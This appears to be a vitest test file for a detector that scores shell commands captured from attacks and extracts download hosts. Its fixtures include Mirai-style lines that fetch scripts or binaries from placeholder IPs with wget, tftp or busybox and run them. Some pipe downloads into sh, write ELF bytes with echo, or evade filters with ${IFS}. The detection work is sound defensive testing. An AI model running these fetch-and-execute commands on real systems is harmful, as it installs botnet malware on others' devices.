import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { injected } from './exploit/injected.ts'
import { deedsOf, hostOf, sourcesIn, weigh } from './commands.ts'

describe('commands', () => {
  it.each([
    // as captured attacks have them, with addresses for documentation
    ['cd /tmp || cd /var/run || cd /mnt; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh', 6],
    ['/bin/busybox tftp -g -l dvrHelper -r mirai.arm 203.0.113.9; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI', 5],
    ['busybox wget -O- http://203.0.113.9/w.sh | sh', 3],
    ["echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x61' > .s; ./.s", 4],
    ['printf "\\177\\105\\114\\106" >> /tmp/x', 4],
    ['cat /proc/mounts; /bin/busybox TSUNAMI', 3],
    ['>/var/.t && cd /var/ ; >/dev/.t && cd /dev/', 2],
    ['wget${IFS}http://203.0.113.9/a${IFS}-O${IFS}/tmp/a;sh${IFS}/tmp/a', 4],
    // as people have them
    ['ls -la /tmp', 0],
    ['uname -a; cat /etc/passwd', 0],
    ['tail -f /var/log/messages', 0],
    ['echo "wget is not here"', 0],
    ['reboot', 0],
  ] as const)('weighs %s: %d', (line, points) => {
    expect(weigh(deedsOf(line))).toBeGreaterThanOrEqual(points)
    if (points === 0) expect(weigh(deedsOf(line))).toBe(0)
  })

  it('finds where programs come from', () => {
    expect(sourcesIn('wget http://203.0.113.9:8080/a.sh; curl -O 198.51.100.7/b; tftp 203.0.113.10 -c get c')).toEqual([
      { type: 'url', value: 'http://203.0.113.9:8080/a.sh', role: 'program' },
      { type: 'url', value: 'http://198.51.100.7/b', role: 'program' },
      { type: 'ip', value: '203.0.113.10', role: 'program' },
    ])
    expect(hostOf('http://203.0.113.9:8080/a.sh')).toBe('203.0.113.9')
    expect(hostOf('ftp://u:p@Files.example/x')).toBe('files.example')
    expect(hostOf('http://[2001:DB8::9]:81/x')).toBe('2001:db8::9')
    expect(hostOf('nothing')).toBe('')
  })

  it.each([
    '\n',
    ' ',
    ';',
    '; ',
    '> ',
    'echo ',
    'wget ',
    '\\x41',
    "echo -n '\\x41\\x41",
    'busybox A',
    'tftp 1.',
    'http://',
    '${IFS}',
  ])('is not kept busy by many of %j', (piece) => {
    const text = `;wget ${piece.repeat(4096)}`
    for (let i = 0; i < 50; i++) {
      weigh(deedsOf(text))
      sourcesIn(text)
      injected(text)
    }
  })

  it('takes whatever it is given', () => {
    const pieces = fc.constantFrom(
      'echo -ne ',
      '\\x41',
      'wget ',
      ' -O',
      '1.2.3.4/',
      ';',
      ' ',
      '>',
      '\n',
      'busybox A',
      '${IFS}',
      'tftp ',
    )
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 2000 }), (parts) => {
        const text = parts.join('')
        expect(weigh(deedsOf(text))).toBeLessThanOrEqual(13)
        expect(sourcesIn(text).length).toBeLessThanOrEqual(12)
      }),
    )
  })
})
